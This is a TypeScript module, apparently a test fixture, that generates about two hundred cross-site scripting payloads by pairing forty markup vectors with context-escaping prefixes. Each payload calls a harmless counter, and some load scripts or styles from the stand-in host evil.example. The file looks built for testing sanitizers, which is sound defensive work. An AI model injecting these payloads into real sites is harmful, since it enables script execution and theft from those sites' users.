/** What a payload runs if anything of it is taken for a script: it is counted. */
const RUN = "__ran()";

/** Ways to have markup run a script, or fetch from elsewhere; `%` stands for the script. */
const MARKUP = [
  "<script>%</script>",
  "<ScRiPt>%</sCrIpT>",
  "<script src=//evil.example/a.js></script>",
  "<script type=module>%</script>",
  "<img src=x onerror=%>",
  "<img src=//evil.example/p.png>",
  "<IMG SRC=x OnErRoR=%>",
  '<img src="x" onerror="%">',
  "<img/src=x/onerror=%>",
  "<svg onload=%>",
  "<svg/onload=%>",
  "<svg><script>%</script></svg>",
  "<svg><animate onbegin=% attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:%><text y=9>x</text></a></svg>",
  "<body onload=%>",
  "<iframe src=javascript:%></iframe>",
  "<iframe srcdoc='<script>parent.%</script>'></iframe>",
  "<object data=javascript:%></object>",
  "<embed src=javascript:%>",
  "<a href=javascript:%>x</a>",
  "<a href='java\tscript:%'>x</a>",
  "<form action=javascript:%><button>x</button></form>",
  "<button formaction=javascript:%>x</button>",
  "<input autofocus onfocus=%>",
  "<select autofocus onfocus=%></select>",
  "<details open ontoggle=%>x</details>",
  "<video src=x onerror=%></video>",
  "<audio src=x onerror=%></audio>",
  "<marquee onstart=%>x</marquee>",
  "<style>@import '//evil.example/a.css'</style>",
  "<link rel=stylesheet href=//evil.example/a.css>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:%'>",
  "<math><mtext><script>%</script></mtext></math>",
  "<div style=background:url(//evil.example/b.png)>x</div>",
  "<table background=//evil.example/t.png><td>x</td></table>",
  "<p onmouseover=% onanimationstart=%>x</p>",
  "<template><script>%</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=%>'>",
  "javascript:%",
] as const;

/** Ways out of where a text may have been put. */
const ESCAPES = ["", '">', "'>", "</textarea></title></style></script>", "*/--></xmp>"] as const;

/** Two hundred texts, every one of which runs a script where it is taken for markup. */
export const PAYLOADS: readonly string[] = ESCAPES.flatMap((out) =>
  MARKUP.map((text) => out + text.replaceAll("%", RUN)),
);

/** Payloads of at most this length. */
export function payloadsUpTo(chars: number): readonly string[] {
  return PAYLOADS.filter((payload) => payload.length <= chars);
}

/** As many payloads as fit. */
export function payloadsIn(chars: number): string {
  let text = "";
  for (const payload of PAYLOADS) if (text.length + payload.length < chars) text += payload;
  return text;
}
